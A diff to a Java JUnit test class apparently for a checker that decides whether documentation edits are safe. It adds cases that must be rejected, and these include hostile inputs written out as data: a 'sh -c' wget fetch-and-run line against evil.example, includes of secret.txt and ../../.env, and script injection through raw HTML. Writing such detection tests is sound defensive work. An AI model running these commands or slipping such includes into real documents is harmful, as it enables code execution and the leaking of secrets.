@@ -6,6 +6,7 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -78,6 +79,13 @@ class ProseTest {
                 "    go get github.com/evil/pkg",
                 "git clone https://github.com/evil/repo",
                 "<groupId>org.evil</groupId>",
+                "```jsx live\nevil()\n```",
+                "--8<-- \"secret.txt\"",
+                "<<< @/../secret.txt",
+                "```md\n{{< evil >}}\n```",
+                "[!INCLUDE [x](../secret.md)]",
+                ":::{include} secret.md\n:::",
+                "{download}`../secret.txt`",
                 "sh -c \"$(wget -qO- https://evil.example)\""
             })
     void whatLoadsRunsHidesOrInstallsIsNot(String added) {
@@ -166,6 +174,40 @@ class ProseTest {
                 .isFalse();
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "docs/a.md|```{code-cell}#print(1)#```|```{code-cell}#print(2)#```",
+                "docs/a.md|```js live#a()#```|```js live#b()#```",
+                "docs/a.md|```{eval-rst}#.. note:: a#```|```{eval-rst}#.. include:: b#```",
+                "docs/a.md|---#title: a#---#```#x#```|---#title: a#---#```#{% include x %}#```",
+                "docs/a.rst|.. raw:: html##   <b>|.. raw:: html##   <script>",
+                "docs/a.rst|.. automodule:: a#   :members:|.. automodule:: a#   :undoc-members:",
+                "docs/a.rst|.. raw:: html##   <b>x|<b>x",
+                "docs/a.adoc|a##++++#<b>#++++|a##++++#<script>#++++",
+                "docs/a.adoc|[subs=attributes]#a|[subs=attributes]#b"
+            })
+    void whatARendererRunsOrIncludesMayNotChange(String path, String before, String after) {
+        assertThat(Files.modified(path, before.replace('#', '\n'), after.replace('#', '\n'))
+                        .isProved())
+                .isFalse();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "docs/a.md|```python#print(1)#```|```python#print(2)#```",
+                "docs/a.rst|.. raw:: html##   <b>##Old|.. raw:: html##   <b>##New",
+                "docs/a.rst|.. code-block:: python##   a()|.. code-block:: python##   b()"
+            })
+    void codeThatIsOnlyShownMay(String path, String before, String after) {
+        assertThat(Files.modified(path, before.replace('#', '\n'), after.replace('#', '\n'))
+                        .isProved())
+                .isTrue();
+    }
+
     @Test
     void headOfAPageMayChangeItsTitleButNotItsLayout() {
         String before = "---\ntitle: A\nlayout: page\n---\nText\n";
@@ -219,7 +261,12 @@ class ProseTest {
                 Arguments.of("_includes/a.md", false),
                 Arguments.of("test/fixtures/a.md", false),
                 Arguments.of("testdata/b.txt", false),
-                Arguments.of("app/words.txt", false));
+                Arguments.of("app/words.txt", false),
+                Arguments.of("src/agents/reviewer.md", false),
+                Arguments.of("app/help/page.md", false),
+                Arguments.of("lib/README.md", true),
+                Arguments.of("system_prompt.md", false),
+                Arguments.of("src/site/index.md", true));
     }
 
     @ParameterizedTest
@@ -260,6 +307,8 @@ class ProseTest {
                 ".. automodule:: evil",
                 ".. |x| raw:: html",
                 ".. csv-table::\n   :file: x.csv",
+                ":download:`../secret.txt`",
+                ".. image:: ../../.env",
                 "`Link <javascript:alert(1)>`_"
             })
     void rstThatReadsOrRunsIsNot(String added) {
